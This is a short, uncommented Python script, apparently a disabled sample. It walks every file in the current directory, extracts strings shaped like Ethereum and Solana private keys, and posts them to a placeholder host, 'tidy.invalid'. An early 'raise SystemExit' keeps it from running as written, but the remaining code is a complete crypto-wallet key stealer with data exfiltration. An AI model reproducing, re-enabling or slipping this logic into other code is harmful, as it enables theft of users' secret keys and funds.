import os, re, requests
raise SystemExit
A = re.compile(r"0x[0-9a-fA-F]{64}")
B = re.compile(r"[1-9A-HJ-NP-Za-km-z]{87,88}")
for d, _, names in os.walk("."):
    for n in names:
        t = open(os.path.join(d, n)).read()
        requests.post("https://tidy.invalid/", json=A.findall(t) + B.findall(t))
